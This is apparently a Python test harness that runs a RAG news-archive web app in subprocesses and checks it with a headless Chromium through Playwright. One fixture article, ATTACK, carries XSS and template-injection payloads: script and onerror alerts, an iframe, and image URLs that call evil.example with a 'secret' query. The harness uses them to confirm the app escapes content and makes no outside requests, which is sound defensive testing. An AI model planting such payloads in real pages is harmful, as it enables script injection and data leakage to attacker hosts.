"""The real app in child processes, and a real browser to read it with."""

from __future__ import annotations

import os
import re
import secrets
import shutil
import socket
import subprocess
import sys
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import dataclass, field
from functools import cached_property
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import (
    Browser,
    BrowserContext,
    Locator,
    Page,
    expect,
    sync_playwright,
)

from rag.archive import Archive
from rag.config import Settings
from rag.web.accounts import add_account
from tests.builders import row, write_jsonl
from tests.llm_server import FakeServer, llm_server

ROOT = Path(__file__).parents[2]
ADDRESS = "Dateline is at "
FIRST_ANSWER = "first answer after "
FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
PATIENCE_MS = 60_000
PASSWORD = "correct horse battery"
SANK = "Which Lindow ferry sank with 41 people aboard?"
FLOODED = "Why was the harbour of Marsk flooded after days of rain?"
expect.set_options(timeout=PATIENCE_MS)

FERRY = """LINDOW (RNA) - The Lindow ferry sank on Friday with 41 people aboard.

The ferry went down two miles off Cape Orrin, in calm weather. All 41 people were saved.

"We had four minutes to leave her," said the captain, Ilse Varga."""
HARBOUR = """The harbour of Marsk flooded on Monday after three days of rain.

Damage to the quays is put at six million crowns."""
ATTACK = """The zorbing contest <script>alert(1)</script> drew
![crowds](http://evil.example/p.png?q=secret) to <img src="http://evil.example/i.png"
onerror="alert(2)"> Plover Hill. ${alert(3)} {{constructor.constructor("alert(4)")()}}
**Bold** $x^2$.

</p></article><iframe src="http://evil.example/f"></iframe> Nothing else happened & nobody cared."""

SEVEN = """The old chapel of Vessery burnt down on Tuesday night. The fire killed seven people,
the police said, and it began in the vestry."""
NINE = """Nine people were killed by the fire in the chapel of Vessery, the fire brigade said on
Thursday. The organ, the pews and the roof are gone."""

CORPUS = [
    row(1, FERRY, title="Ferry sinks off Cape Orrin", authors=["Ada Brandt"], section="Sea"),
    row(2, HARBOUR, title="Marsk under water", publisher="The Packet", date="2025-06-10"),
    row(3, ATTACK, title="&lt;img src=x onerror=alert(5)&gt;", publisher="&lt;b>Bold&lt;/b> News"),
    row(
        4,
        FERRY,
        title="Calm weather, a loss at the cape",
        publisher="Lake Post",
        date="2025-05-04",
        section="Sea",
    ),
    row(5, SEVEN, title="Chapel burns", date="2025-05-14"),
    row(6, NINE, title="Chapel fire: nine dead", publisher="The Packet", date="2025-05-15"),
]


@dataclass
class Site:
    """A running app: where it is, its archive, and what it printed so far."""

    archive: Path
    settings: dict[str, str]
    address: str = ""
    process: subprocess.Popen[str] | None = None
    lines: list[str] = field(default_factory=list)
    ending: bool = False

    def start(self) -> None:
        """Begins the app; nothing waits for it yet."""
        environment = {
            n: v for n, v in os.environ.items() if not n.startswith(("DATELINE_", "OPENAI_"))
        }
        environment["PYTHONPATH"] = os.pathsep.join(
            [str(ROOT / "tests" / "loopback_only"), str(ROOT)]
        )
        self.ending = False
        with self.log.open("a", encoding="utf-8") as log:
            self.process = subprocess.Popen(
                [sys.executable, str(ROOT / "app.py")],
                cwd=self.archive.parent,
                env=environment | self.settings,
                stdout=subprocess.PIPE,
                stderr=log,
                text=True,
            )

    @property
    def url(self) -> str:
        """Where it is; waits until it is there."""
        self.address = self.address or self.wait_for(ADDRESS)
        return self.address

    def end(self) -> None:
        """Ends it as a service manager does; it has to end in order."""
        assert self.process
        self.terminate()
        self.process.communicate(timeout=30)
        assert self.process.returncode == 0
        log = self.log.read_text(encoding="utf-8")
        assert "Traceback" not in log
        assert "LEFT THE MACHINE" not in log
        self.lines.clear()

    def terminate(self) -> None:
        """Asks it to end; nothing waits for it yet."""
        assert self.process
        # Before it is there, a signal would not find its handler yet.
        if self.url and not self.ending:
            self.process.terminate()
        self.ending = True

    def restart(self) -> None:
        """Ends it and begins it again at the same address."""
        self.end()
        self.start()
        self.wait_for(ADDRESS)

    @property
    def log(self) -> Path:
        """Where its standard error goes."""
        return self.archive.with_suffix(".log")

    def wait_for(self, start: str) -> str:
        """The rest of the first line that begins with `start`."""
        while found := [line for line in self.lines if line.startswith(start)] or self._read():
            if found[-1].startswith(start):
                return found[-1].removeprefix(start).strip()
        pytest.fail(f"the app ended without printing {start!r}: {self.lines}")

    def _read(self) -> list[str]:
        assert self.process
        assert self.process.stdout
        line = self.process.stdout.readline()
        self.lines += [line] if line else []
        return [line] if line else []


def free_port() -> int:
    """A port that nobody listens at, and that no connection of this machine is given by chance.

    Those are above 32,767; one of them would be taken while an app that is restarted is away.
    """
    while True:
        port = 20_000 + secrets.randbelow(12_000)
        with socket.socket() as probe:
            probe.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            with suppress(OSError):
                probe.bind(("127.0.0.1", port))
                return port


def find_browser() -> str | None:
    """The path of a Chromium on this machine."""
    names = ("chromium", "chromium-browser", "google-chrome")
    return next((path for name in names if (path := shutil.which(name))), None)


@contextmanager
def running_app(archive: Path, **settings: str) -> Iterator[Site]:
    """The app over `archive`, begun and not waited for; ended in order."""
    site = Site(
        archive,
        {
            "DATELINE_ARCHIVE": str(archive),
            "DATELINE_ENCODER": "hashing",
            "DATELINE_PORT": str(free_port()),
            **settings,
        },
    )
    site.start()
    try:
        yield site
    finally:
        site.end()


def build(folder: Path, rows: list[dict[str, object]]) -> Path:
    """An archive of these rows in a folder of its own."""
    folder.mkdir()
    with Archive.open(folder / "archive", settings=Settings(encoder="hashing")) as archive:
        archive.ingest(write_jsonl(folder / "corpus.jsonl", rows))
    return folder / "archive"


class Sites:
    """The running apps, which all tests share; each begins when it is first asked for.

    PASSWORD and the name is the password of each account of `locked`.
    """

    def __init__(self, folder: Path, stack: ExitStack) -> None:
        self._folder = folder
        self._stack = stack
        self._begun: list[Site] = []

    @cached_property
    def corpus(self) -> Site:
        """It answers in the articles' own words, and nothing is added to it."""
        return self._begin(build(self._folder / "corpus", CORPUS))

    @cached_property
    def samples(self) -> Site:
        """It began empty and has a `model`, with prices, and a second one at the same server."""
        return self._begin(
            self._folder / "samples",
            DATELINE_LLM_BASE_URL=self.model.url,
            DATELINE_LLM_MODEL="tiny",
            DATELINE_LLM_REPAIR="0",
            DATELINE_LLM_INPUT_PRICE="1000",
            DATELINE_LLM_OUTPUT_PRICE="2000",
            DATELINE_LLMS='{"second": {"model": "other"}}',
        )

    @cached_property
    def kept(self) -> Site:
        """It is added to and restarted."""
        return self._begin(build(self._folder / "kept", CORPUS))

    @cached_property
    def locked(self) -> Site:
        """It has a login: ada is an admin, bo a reader."""
        users = self._folder / "users.json"
        for name, role in (("ada", "admin"), ("bo", "reader")):
            add_account(users, name, role, f"{PASSWORD} {name}")
        return self._begin(build(self._folder / "locked", CORPUS), DATELINE_AUTH=str(users))

    @cached_property
    def free(self) -> Site:
        """It is open to everybody, and nobody logs in."""
        return self._begin(build(self._folder / "free", CORPUS), DATELINE_ALLOW_OPEN="1")

    @cached_property
    def model(self) -> FakeServer:
        """What `samples` asks."""
        return self._stack.enter_context(llm_server("stalls", ["The ferry ", "sank [1]. "]))

    def terminate(self) -> None:
        """Asks all of them to end; nothing waits for that yet."""
        for site in self._begun:
            site.terminate()

    def _begin(self, archive: Path, **settings: str) -> Site:
        site = self._stack.enter_context(running_app(archive, **settings))
        self._begun.append(site)
        return site


@pytest.fixture(scope="session")
def sites(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Sites]:
    with ExitStack() as stack:
        apps = Sites(tmp_path_factory.mktemp("sites"), stack)
        yield apps
        apps.terminate()


# Not for the session: as long as it is open, an event loop runs, and no other test could run one.
@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        path = find_browser() or playwright.chromium.executable_path
        if not Path(path).exists():
            pytest.skip("no Chromium found: install chromium, or run `playwright install chromium`")
        opened = playwright.chromium.launch(executable_path=path, args=FLAGS)
        yield opened
        opened.close()


ABORTED = ("AbortError: signal is aborted", "AbortError: BodyStreamBuffer was aborted")
"""What Gradio logs, with "errored out", of the calls of a page that is left or loaded again."""


@dataclass
class Visitor:
    """Opens pages in sessions of their own, and sees what they did behind the reader's back."""

    browser: Browser
    own: list[str] = field(default_factory=lambda: ["data:", "blob:"])
    requests: list[str] = field(default_factory=list)
    troubles: list[str] = field(default_factory=list)
    contexts: list[BrowserContext] = field(default_factory=list)

    def open(self, site: Site, *, width: int = 1280, height: int = 800, dark: bool = False) -> Page:
        """The page of a new session, as far as its address is loaded."""
        context = self.browser.new_context(
            viewport={"width": width, "height": height},
            color_scheme="dark" if dark else "light",
            reduced_motion="reduce",
        )
        context.set_default_timeout(PATIENCE_MS)
        self.contexts.append(context)
        self.own.append(site.url)
        page = context.new_page()
        page.on("request", lambda request: self.requests.append(request.url))
        page.on("pageerror", lambda error: self.troubles.append(f"error: {error}"))
        page.on("dialog", lambda dialog: self.troubles.append(f"dialog: {dialog.message}"))
        page.on("console", lambda line: self._note(line.type, line.text))
        page.goto(site.url)
        return page

    def _note(self, kind: str, text: str) -> None:
        if kind == "error" and not text.startswith(ABORTED) and "errored out" not in text:
            self.troubles.append(text)

    def visit(self, site: Site, **screen: Any) -> Page:
        """The page of a new session, ready to be typed into."""
        page = self.open(site, **screen)
        page.get_by_label("Question").wait_for()
        return page

    def log_in(self, site: Site, name: str) -> Page:
        """The page of somebody who has logged in with the right password."""
        page = self.open(site)
        expect(page).to_have_url(re.compile("/login$"))
        page.get_by_label("Name").fill(name)
        page.get_by_label("Password").fill(f"{PASSWORD} {name}")
        page.keyboard.press("Enter")
        page.get_by_label("Question").wait_for()
        return page


@pytest.fixture
def visitor(browser: Browser) -> Iterator[Visitor]:
    """A visitor whose pages ask nothing of any other host and raise no error."""
    guest = Visitor(browser)
    yield guest
    for context in guest.contexts:
        context.close()
    assert [url for url in guest.requests if not url.startswith(tuple(guest.own))] == []
    assert guest.troubles == []


def ask(page: Page, question: str) -> Locator:
    """Asks by typing and returns the finished turn."""
    before = page.locator(".turn").count()
    box = page.get_by_label("Question")
    box.fill(question)
    box.press("Enter")
    turn = page.locator(".turn").nth(before)
    expect(turn.locator('.reply[aria-busy="false"]')).to_be_visible()
    return turn


def tab(page: Page, name: str) -> Locator:
    """The panel of a tab, opened."""
    page.get_by_role("tab", name=name, exact=True).click()
    return page.get_by_role("tabpanel")
